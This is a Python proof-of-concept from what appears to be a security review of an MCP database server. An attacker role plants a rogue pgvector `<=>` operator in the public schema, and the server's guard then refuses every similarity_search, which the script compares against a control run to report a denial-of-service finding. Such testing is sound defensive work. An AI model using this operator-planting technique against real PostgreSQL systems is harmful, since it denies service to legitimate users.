"""attack4 / target 3: one operator the attacker plants in pgvector's schema (public, legacy
CREATE) refuses every similarity_search: the statement names OPERATOR("public".<=>), and the
guard takes every `public.<=>` overload as a candidate, the attacker's too (untrusted_owner),
although PostgreSQL would pick pgvector's exact match. Denial of service with no privilege
beyond legacy CREATE on public (F6 again, for a name our own statement qualifies).
Control: the same call before the operator is planted. Needs vector_probe.py's public.docs.
Run: PYTHONPATH=tests:security-review uv run python security-review/attack4/vector_planted_op.py
"""
import asyncio
import json
import sys

import asyncpg
from common import as_role, tool
from mcpclient import connect

PLANT = """
CREATE FUNCTION atk.near(public.vector, integer) RETURNS float8 LANGUAGE sql IMMUTABLE
  AS 'SELECT 0::float8';
CREATE OPERATOR public.<=> (LEFTARG = public.vector, RIGHTARG = integer, FUNCTION = atk.near);
"""
UNPLANT = "DROP OPERATOR IF EXISTS public.<=> (public.vector, integer); DROP FUNCTION IF EXISTS atk.near(public.vector, integer)"
ARGS = {"table_name": "docs", "column": "embedding", "query_vector": [0.5] * 256, "limit": 3, "columns": ["id"]}
SQL = "SELECT id FROM docs ORDER BY embedding <=> $1::vector LIMIT 3"


async def main() -> int:
    atk = await asyncpg.connect(as_role("attacker"))
    await atk.execute(UNPLANT)
    vec = "[" + ",".join(["0.5"] * 256) + "]"
    results = {}
    async with connect(as_role("reader")) as cl:
        for phase in ("before", "planted"):
            if phase == "planted":
                await atk.execute(PLANT)
            ok, body = await tool(cl, "similarity_search", **ARGS)
            ok2, body2 = await tool(cl, "execute_query", sql=SQL, params=[vec])
            results[phase] = (ok, ok2)
            print(f"{phase}: similarity_search ok={ok} {json.dumps(body)[:160]}")
            print(f"{phase}: execute_query ok={ok2} {json.dumps(body2)[:160]}")
    await atk.execute(UNPLANT)
    await atk.close()
    dos = results["before"][0] and not results["planted"][0]
    print("FINDING (denial of service)" if dos else "held")
    return int(dos)


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
